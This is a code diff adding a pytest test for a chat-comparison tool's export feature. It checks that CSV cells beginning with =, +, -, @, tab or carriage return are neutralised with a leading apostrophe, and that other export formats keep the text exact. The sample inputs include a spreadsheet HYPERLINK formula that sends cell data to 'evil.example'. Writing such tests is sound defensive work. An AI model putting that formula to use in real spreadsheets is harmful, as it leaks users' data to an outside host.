@@ -265,6 +265,50 @@ async def test_csv_opens_with_japanese_intact(
     assert "「紅蓮華」".encode() in printed
 
 
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"クリックして")',
+    "@SUM(1+1)",
+    "+81 90 1234 5678 に電話して",
+    "-- ネタバレ注意 --",
+    "\tタブで始まる返事",
+    "\r改行で始まる返事",
+]
+
+
+@pytest.mark.parametrize("reply", FORMULAS)
+async def test_csv_cells_never_run_as_formulas_and_other_formats_stay_exact(
+    store: Store, reply: str
+) -> None:
+    session = ComparisonSession.create(
+        store,
+        PERSONA,
+        [fake_profile("=model")],
+        rater="@rater",
+        backend_factory=fake_factory({"=model": FakeBackend("=model", [reply])}),
+    )
+    await session.send("=1+1 って何？")
+    [reply_id] = [r.id for r in store.load_record(session.id).replies]
+    session.rate_reply(reply_id, score=3, note="-ちょっと変", tags=["+tag"])
+
+    [row] = list(csv.DictReader(io.StringIO(export_session(store, session.id, "csv")[1:])))
+    assert row["text"] == "'" + reply
+    assert row["user_text"] == "'=1+1 って何？"
+    assert row["model"] == "'=model" and row["rater"] == "'@rater"
+    assert row["note"] == "'-ちょっと変" and row["tags"] == "'+tag"
+    assert row["turn"] == "1" and row["score"] == "3"  # numbers stay numbers
+    for name, value in row.items():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), name
+
+    [record] = [
+        json.loads(line) for line in export_session(store, session.id, "jsonl").splitlines()
+    ]
+    assert record["text"] == reply and record["user_text"] == "=1+1 って何？"
+    assert reply.strip() in export_session(store, session.id, "md")
+    parser = _Collector()
+    parser.feed(export_session(store, session.id, "html"))
+    assert reply in "".join(parser.text)
+
+
 class _Collector(HTMLParser):
     def __init__(self) -> None:
         super().__init__()
